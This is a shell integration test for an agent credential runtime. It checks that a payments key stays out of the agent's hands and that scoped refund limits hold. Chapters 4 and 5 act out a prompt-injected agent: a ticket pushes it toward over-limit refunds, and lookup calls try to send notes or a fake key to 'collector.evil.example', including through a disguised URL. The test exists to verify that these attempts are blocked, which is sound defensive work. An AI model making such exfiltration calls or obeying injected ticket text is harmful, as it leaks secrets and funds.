#!/bin/bash
# Plays tools that are called for agents, with the real programs: a credential that the agent never holds, by HTTP and by MCP,
# and what an injected agent tries for it. Fails unless every step comes out as told.
#   runtime.sh BIN
set -euo pipefail

BIN="$(realpath "$1")"
readonly BIN
# shellcheck source=tests/integration/calling.sh
source "$(dirname "${BASH_SOURCE[0]}")/calling.sh"

# --- a place of its own, and its end

make_stage runtime
cd "$WORK"
mkdir operator agent runtime runtime/tools.d api tpm
readonly ca_file=''
socket_of[operator]="$WORK/sock" socket_of[agent]="$WORK/sock"

# --- tools

declare_tools() {
  local api
  api=$(api_address)
  declare_refund
  declare_tool ticket "Reads a customer's ticket." tickets.read 'required = ["number"]
properties.number = { type = "integer" }' "method = \"GET\"
url = \"$api/tickets/{number}\"" '"/text"'
  declare_tool lookup "Has a page of the documentation fetched." web.read 'required = ["url"]
properties.url = { type = "string" }
[[tool.constraint]]
argument = "/url"
parameter = "url"
as = "url"' "method = \"POST\"
url = \"$api/fetch\"
body = \"json\"" '"/id"'
  declare_tool diagnose "Asks the API how it sees a refund." payments.refund "$(refund_arguments)" "method = \"GET\"
url = \"$api/debug/{charge}\"
query = { amount = \"/amount\" }" '"/request"'
  declare_tool payout "Pays money out." payments.payout 'required = ["amount"]
properties.amount = { type = "number" }' "method = \"POST\"
url = \"$api/v1/payouts\"
body = \"json\"" '"/id"'
}

search_agent() { python3 -IB "$HERE/runtime/find_secret.py" api/key.txt leaf "$agent_pid" agent runtime state operator; }

over_mcp() {
  enter agent
  python3 -IB "$HERE/runtime/demo_mcp.py" "$@" -- "${machine[@]}" mcp "$TOOLS" --runtime-socket "$WORK/runtime/sock" \
    --chain "$WORK/agent/chain" 2>>mcp.log
}

# --- the story

chapter "1. A payments company's key goes into the vault, and tools are declared that need it"
make_credential
write_configurations ""
start_programs
for agent in tools support; do show_at operator agent create "$agent" --uid "$(id -u)" >/dev/null; done
show_at operator vault put payments-api --type api_key --scope payments.refund --tool refund --tool diagnose --stdin \
  <api/key.txt | sed 's/^/  /'
refused 'never an argument' at operator vault put payments-api --value psp-00000000
declare_tools
say "tools.d: $(find runtime/tools.d -name '*.toml' -printf '%f\n' | sort | tr '\n' ' ')"
"$BIN/chancery-runtime" --config runtime/runtime.toml --check | sed 's/^/    /'
start_runtime
show_at operator grant --for user:alice@example.org --agent support --audience "$TOOLS" --lifetime 30m \
  --scope payments.refund --scope tickets.read --scope web.read --constraint 'payments.refund#amount:max_subtree=100' \
  --constraint 'web.read#url:prefix=https://docs.example.org/' >agent/chain
tr -s '~[:space:]' '\n' <agent/chain | tail -n 1 >leaf
good "alice lets support refund 100 in all, read tickets, and look into the documentation"

chapter "2. A refund, by an agent that has no credential"
start_agent
ask list
say "the agent's tools: $(grep -o '"name":"[a-z]*"' answer | cut -d'"' -f4 | tr '\n' ' ')"
if grep -q '"payout"' answer; then die "what the chain does not grant should not be listed"; fi
expect_done refund '{"charge": "ch_1", "amount": 75}'
if grep -q internal_note answer; then die "what is not declared should not pass"; fi
permit=$(field permit <answer)
grep -qx 'POST /v1/charges/ch_1/refunds with the credential {"amount":75}' api/log || die "the API should have had the credential"
good "the API had the credential, and the agent the answer: of it, what the declaration lets through"
show_at operator trace "$permit" >trace.txt
sed 's/^/  /' trace.txt
for action in token.grant token.session tool.attempt 'tool.permit  permit' credential.release tool.result; do
  grep -qF "$action" trace.txt || die "the trace should tell: $action"
done
found=$(search_agent) || die "the credential should be nowhere: $found"
good "the credential is not with the agent: $found"

receipt_is_signed() {
  python3 -IB "$HERE/runtime/unix_get.py" runtime/sock "/v1/receipts/$permit" >receipt.json && grep -q '"signed"' receipt.json
}
until_true "the receipt should be signed" receipt_is_signed
show_at operator receipt verify "$WORK/receipt.json" | sed 's/^/    /'
sed 's/"status":"done"/"status":"error"/' receipt.json >forged.json
refused 'it was altered' show_at operator receipt verify "$WORK/forged.json"
good "its receipt is signed by the runtime's key in the TPM, and a forged one is found out"

chapter "3. The same over MCP"
tell_command 'agent>' mcp "$TOOLS" --runtime-socket … --chain …
over_mcp refund '{"charge": "ch_2", "amount": 5}' refund '{"charge": "ch_2", "amount": 500}' >mcp.out || die "the client of MCP should end well: $(<mcp.log)"
sed 's/^/    /' mcp.out
grep -q '^tools .*refund' mcp.out || die "the tool should be listed"
if grep -q '^tools .*payout' mcp.out; then die "what the chain does not grant should not be listed"; fi
grep '^refund ' mcp.out >calls.out
sed -n 1p calls.out | grep -q 're_1' || die "the first call should have been made"
sed -n 2p calls.out | grep -q '"isError": true' || die "the second call should have been denied"
[[ "$(grep -c '/ch_2/' api/log)" == 1 ]] || die "one call should have reached the API"
show_entry tool.permit '"outcome":"deny"' '"denial":"ceiling_exceeded"'
good "refunded by an agent that speaks MCP; beyond the bound it is told so"

chapter "4. A ticket that was written for agents"
expect_done ticket '{"number": 7}'
say "the agent does as it is told there:"
expect_stopped ceiling_exceeded refund '{"charge": "ch_666", "amount": 5000}'
show_entry tool.permit '"outcome":"deny"' '"denial":"ceiling_exceeded"'
expect_stopped ceiling_exceeded refund '{"charge": "ch_666", "amount": 30}'
show_entry tool.permit '"outcome":"deny"' '"denial":"ceiling_exceeded"'
good "75 and 5 are refunded: 20 are left, whatever the ticket says"

chapter "5. What it has is to go elsewhere, in a URL"
expect_stopped ceiling_exceeded lookup '{"url": "https://collector.evil.example/?notes=all"}'
show_entry tool.permit '"outcome":"deny"'
expect_stopped invalid_arguments lookup '{"url": "https://docs.example.org@collector.evil.example/"}'
show_entry tool.refuse '"reason":"arguments"'
expect_stopped secret_in_arguments lookup '{"url": "https://docs.example.org/?q=sk-proj-Ab3dE5gH7jK9mN1pQ3sT5vX7zA9bC1d"}'
show_entry tool.refuse '"reason":"secret_in_arguments"' '"pattern":1'
good "another host, a host in disguise and a key: nothing of it left"

chapter "6. A careless upstream says what it was asked with"
expect_done diagnose '{"charge": "ch_1", "amount": 1}'
grep -q 'redacted' answer || die "the answer should be redacted"
tail -n 1 api/log | grep -q '^GET /debug/ch_1?amount=1 with the credential' || die "the API should have had it, and echoed it"
show_entry tool.result '"exposed":true'
show_entry credential.exposed
good "the agent got [redacted], and the operator is told to have the key replaced"

chapter "7. After all that"
found=$(search_agent) || die "the credential should be nowhere: $found"
good "$found"
at operator audit export --sign >log.jsonl
at operator audit keys >audit.keys
show_at operator audit verify "$WORK/log.jsonl" --key "$WORK/audit.keys" | sed 's/^/    /'
for place in log.jsonl chanceryd.log runtime.log agent.log mcp.log trace.txt; do
  if grep -qF -f api/key.txt "$place"; then die "the credential is in $place"; fi
done
good "nor is it in the audit log, which is whole, or in what the programs logged"
